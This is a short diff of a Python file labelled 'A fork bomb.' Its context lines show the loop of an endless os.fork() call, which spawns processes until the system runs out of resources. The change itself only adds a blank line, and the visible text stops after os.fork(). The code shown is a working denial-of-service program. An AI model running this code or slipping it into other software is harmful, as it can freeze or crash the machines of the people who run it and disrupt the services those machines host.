@@ -1,5 +1,6 @@
 # A fork bomb.
 import os
+
 while True:
     try:
         os.fork()
